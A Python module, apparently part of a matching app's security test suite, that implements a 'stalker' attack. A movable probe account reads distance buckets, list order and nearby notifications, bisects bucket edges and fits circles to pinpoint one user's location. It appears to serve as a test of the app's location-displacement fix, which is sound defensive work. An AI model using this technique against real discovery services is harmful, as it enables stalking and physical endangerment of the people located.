"""A stalker: locates one person from what discovery shows about them (issue 9, item 2).

The attacker runs a probe account it can put anywhere (waiting out the speed check, or
switching discovery off and on when that teleports it). At each spot it looks at everything
discovery shows: whether the target is listed, the bucket text, the target's place in the
list relative to a decoy of the attacker's own, and the ``nearby`` notifications (the caller's
``Eyes`` collects those). From a point where the target shows in the finest bucket it
binary-searches, along several rays, the two edges it can see (finest bucket -> next bucket,
listed -> not listed) and fits circles to the edge points by least squares: the original
attack, which recovered a target to 0.1 m when membership was decided on true positions.

Two estimates come out of it:

- ``fitted``: from the observations alone. Where everything shown comes from displaced
  positions, this lands near the target's *shown* position minus the attacker's own secret
  displacement, so its error is partly luck (two offsets may happen to cancel);
- ``hinted``: the attacker is also handed its own displacement (and its decoy's) - the one
  thing the API never shows, and the most that a crowd of its own accounts could pin down by
  measuring each other. It then knows which snapping cell it stood in at every look and solves
  for the target's shown cell exactly: every cell that explains every answer. If no cell does
  (the answers were not computed from shown positions, as before the fix), it falls back to
  the fitted circle of the listed/not-listed edge.

The attacker knows the whole mechanism (the worldwide snapping grid, the buckets, how the list
is ordered), everything but the server's secret.
"""

from __future__ import annotations

import math
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from typing import Protocol

from disco.match.engine.geo import (
    BUCKETS,
    METRES_PER_DEGREE_LAT,
    bucket_for,
    haversine_m,
    metres_per_degree_lon,
    snap_latlon,
)

__all__ = ["Eyes", "Findings", "Look", "Stalker", "circle_fit", "offset", "to_local"]

LatLon = tuple[float, float]
FINEST = BUCKETS[0]
# Ranks of what one look says about the target: in the finest bucket, listed further out, absent.
IN_FINEST, LISTED, ABSENT = 0, 1, 2
BISECTIONS = 11  # 600 m / 2**11: the edge to 0.3 m


@dataclass(frozen=True, slots=True)
class Look:
    """One look at the nearby list (and the frames that came with it), from where the probe
    stood: who is listed, in which order, with which bucket."""

    spot: LatLon
    listed: tuple[tuple[str, str], ...]  # (user id, bucket label), in the list's order

    def label(self, user_id: str) -> str | None:
        return next((label for uid, label in self.listed if uid == user_id), None)

    def before(self, user_id: str, other_id: str) -> bool | None:
        ids = [uid for uid, _ in self.listed]
        if user_id in ids and other_id in ids:
            return ids.index(user_id) < ids.index(other_id)
        return None


class Eyes(Protocol):
    """How the attacker moves its probe and looks: the HTTP API, or an in-process model."""

    async def look_from(self, spot: LatLon) -> Look: ...


def offset(point: LatLon, north: float, east: float) -> LatLon:
    return (
        point[0] + north / METRES_PER_DEGREE_LAT,
        point[1] + east / metres_per_degree_lon(point[0]),
    )


def to_local(origin: LatLon, point: LatLon) -> tuple[float, float]:
    """(east, north) metres of ``point`` from ``origin``: a plane is exact enough within 1 km."""
    return (
        (point[1] - origin[1]) * metres_per_degree_lon(origin[0]),
        (point[0] - origin[0]) * METRES_PER_DEGREE_LAT,
    )


def _solve3(a: list[list[float]], b: list[float]) -> list[float]:
    """Gaussian elimination with partial pivoting, 3x3."""
    m = [[*row, v] for row, v in zip(a, b, strict=True)]
    for col in range(3):
        pivot = max(range(col, 3), key=lambda r: abs(m[r][col]))
        m[col], m[pivot] = m[pivot], m[col]
        for r in range(3):
            if r != col and m[col][col] != 0:
                factor = m[r][col] / m[col][col]
                m[r] = [x - factor * y for x, y in zip(m[r], m[col], strict=True)]
    return [m[i][3] / m[i][i] if m[i][i] else 0.0 for i in range(3)]


def circle_fit(
    points: list[tuple[float, float]], radius: float | None = None
) -> tuple[float, float, float]:
    """Least-squares circle (cx, cy, r) through planar points; with ``radius`` known, only the
    centre is fitted (Gauss-Newton on the geometric distance, from the algebraic fit)."""
    # Algebraic (Kasa) fit: x^2 + y^2 + D x + E y + F = 0, exact through three points.
    ata = [[0.0] * 3 for _ in range(3)]
    atb = [0.0] * 3
    for x, y in points:
        row = (x, y, 1.0)
        rhs = -(x * x + y * y)
        for i in range(3):
            atb[i] += row[i] * rhs
            for j in range(3):
                ata[i][j] += row[i] * row[j]
    d, e, f = _solve3(ata, atb)
    cx, cy = -d / 2, -e / 2
    r = math.sqrt(max(0.0, cx * cx + cy * cy - f))
    if radius is None:
        return cx, cy, r
    for _ in range(50):
        jtj = [[0.0, 0.0], [0.0, 0.0]]
        jtr = [0.0, 0.0]
        for x, y in points:
            dist = math.hypot(x - cx, y - cy) or 1e-9
            res = dist - radius
            gx, gy = (cx - x) / dist, (cy - y) / dist
            jtj[0][0] += gx * gx
            jtj[0][1] += gx * gy
            jtj[1][1] += gy * gy
            jtr[0] += gx * res
            jtr[1] += gy * res
        det = jtj[0][0] * jtj[1][1] - jtj[0][1] ** 2
        if abs(det) < 1e-12:
            break
        dx = (jtj[1][1] * jtr[0] - jtj[0][1] * jtr[1]) / det
        dy = (jtj[0][0] * jtr[1] - jtj[0][1] * jtr[0]) / det
        cx, cy = cx - dx, cy - dy
        if math.hypot(dx, dy) < 1e-6:
            break
    return cx, cy, radius


@dataclass
class Findings:
    """What the attacker concluded about one target."""

    probes: int = 0
    edges: dict[int, list[LatLon]] = field(default_factory=dict)  # by rank crossed
    listed_edge_fit: LatLon | None = None  # the circle of listed -> absent
    finest_edge_fit: LatLon | None = None  # the circle of finest bucket -> next (152.4 m)
    hinted_cells: list[LatLon] = field(default_factory=list)  # shown cells explaining it all

    @property
    def fitted(self) -> LatLon:
        """From the observations alone: the edge fits, averaged."""
        fits = [f for f in (self.listed_edge_fit, self.finest_edge_fit) if f is not None]
        return (sum(f[0] for f in fits) / len(fits), sum(f[1] for f in fits) / len(fits))

    @property
    def hinted(self) -> LatLon:
        """With its own displacement known: the shown cell(s) that explain every answer, or,
        when none does, the fitted circle of the membership edge (nothing to correct then)."""
        if self.hinted_cells:
            cells = self.hinted_cells
            return (sum(c[0] for c in cells) / len(cells), sum(c[1] for c in cells) / len(cells))
        assert self.listed_edge_fit is not None
        return self.listed_edge_fit


# Where the attacker's own accounts are shown, given where they really are (the hint).
ShownOf = Callable[[LatLon], LatLon]


class Stalker:
    def __init__(
        self,
        eyes: Eyes,
        *,
        target_id: str,
        decoy_id: str,
        probe_radius_m: float,
        cell_m: float,
        rays: int = 3,
        probe_shown: ShownOf | None = None,
        decoy_shown: LatLon | None = None,
    ) -> None:
        self._eyes = eyes
        self._target = target_id
        self._decoy = decoy_id
        self._radius = probe_radius_m
        self._cell = cell_m
        self._rays = rays
        self._probe_shown = probe_shown
        self._decoy_shown = decoy_shown
        self.looks: list[Look] = []

    def rank(self, look: Look) -> int:
        label = look.label(self._target)
        if label is None:
            return ABSENT
        return IN_FINEST if label == FINEST.label else LISTED

    async def _look(self, spot: LatLon) -> Look:
        look = await self._eyes.look_from(spot)
        self.looks.append(look)
        return look

    async def _inside(self, prior: LatLon, search_m: float) -> LatLon:
        """A spot from which the target shows in the finest bucket: the prior, then rings."""
        candidates = [prior] + [
            offset(prior, r * math.cos(a * math.pi / 4), r * math.sin(a * math.pi / 4))
            for r in range(60, int(search_m) + 1, 60)
            for a in range(8)
        ]
        for spot in candidates:
            if self.rank(await self._look(spot)) == IN_FINEST:
                return spot
        raise AssertionError("the target never showed in the finest bucket near the prior")

    async def _edge(
        self, origin: LatLon, bearing: float, level: int, lo: float, hi: float
    ) -> float:
        """Distance along the ray where the rank goes from <= level to above it."""

        def at(t: float) -> LatLon:
            return offset(origin, t * math.cos(bearing), t * math.sin(bearing))

        while self.rank(await self._look(at(hi))) <= level:  # make sure hi is outside
            lo, hi = hi, hi * 2
            if hi > 5000:
                raise AssertionError("no edge along the ray")
        for _ in range(BISECTIONS):
            mid = (lo + hi) / 2
            if self.rank(await self._look(at(mid))) <= level:
                lo = mid
            else:
                hi = mid
        return (lo + hi) / 2

    async def attack(
        self, prior: LatLon, *, search_m: float = 300.0, first_ray: float = 0.0
    ) -> Findings:
        start = len(self.looks)
        origin = await self._inside(prior, search_m)
        findings = Findings(edges={IN_FINEST: [], LISTED: []})
        for k in range(self._rays):
            bearing = first_ray + 2 * math.pi * k / self._rays
            finest = await self._edge(origin, bearing, IN_FINEST, 0.0, 600.0)
            # The outer edge lies beyond the inner one: search from there on.
            listed = await self._edge(origin, bearing, LISTED, finest, max(600.0, finest * 2))
            for level, t in ((IN_FINEST, finest), (LISTED, listed)):
                spot = offset(origin, t * math.cos(bearing), t * math.sin(bearing))
                findings.edges[level].append(spot)
        findings.probes = len(self.looks) - start

        def fit(points: list[LatLon], radius: float | None) -> LatLon:
            local = [to_local(origin, p) for p in points]
            cx, cy, _ = circle_fit(local, radius)
            return offset(origin, cy, cx)

        findings.listed_edge_fit = fit(findings.edges[LISTED], None)
        findings.finest_edge_fit = fit(findings.edges[IN_FINEST], FINEST.max_m)
        if self._probe_shown is not None:
            findings.hinted_cells = self._solve(self.looks[start:], findings.fitted)
        return findings

    def _solve(self, looks: Iterable[Look], near: LatLon) -> list[LatLon]:
        """Every snapping cell the target could be shown in, given every answer: the probe's
        shown cell at each look is known (the hint), so each answer is a pure function of the
        target's shown cell. Candidates cover 400 m around the fitted estimate, which the
        attacker's own displacement (under 150 m) moves it from the truth."""
        assert self._probe_shown is not None
        seen = [(self._probe_shown(look.spot), look) for look in looks]
        candidates = {
            snap_latlon(*offset(near, n, e), self._cell)
            for n in range(-400, 401, 10)
            for e in range(-400, 401, 10)
        }
        return sorted(c for c in candidates if all(self._explains(c, p, look) for p, look in seen))

    def _explains(self, cell: LatLon, probe: LatLon, look: Look) -> bool:
        distance = haversine_m(*probe, *cell)
        if distance > self._radius:
            return look.label(self._target) is None
        label = bucket_for(distance).label
        if look.label(self._target) != label:
            return False
        order = look.before(self._target, self._decoy)
        if order is not None and self._decoy_shown is not None:
            # Same interests, so the same score: by bucket, then by id.
            decoy = bucket_for(haversine_m(*probe, *self._decoy_shown)).max_m
            expected = (bucket_for(distance).max_m, self._target) < (decoy, self._decoy)
            if order != expected:
                return False
        return True
